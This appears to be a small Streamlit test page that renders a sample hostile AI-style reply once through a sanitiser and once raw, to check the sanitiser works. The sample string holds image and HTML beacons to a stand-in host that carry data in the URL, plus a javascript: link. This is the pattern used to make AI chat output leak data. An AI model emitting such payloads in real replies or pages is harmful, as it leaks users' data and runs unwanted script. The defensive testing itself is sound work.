"""A page for the browser test: the same hostile reply drawn through ui.safe.plain (as every
page draws replies) and, as the control, straight through st.markdown."""

import streamlit as st

from ui.safe import plain

EVIL = (
    "Sure! ![](https://beacon.invalid/{q}.png?q=salary) <img src='https://beacon.invalid/{q}-html.png'>"
    "\n**not bold** :red[not red] $x^2$ [link](javascript:alert(1))"
)

with st.container(key="safe"):
    st.markdown(plain(EVIL.format(q="safe")))
with st.container(key="control"):
    st.markdown(EVIL.format(q="control"))
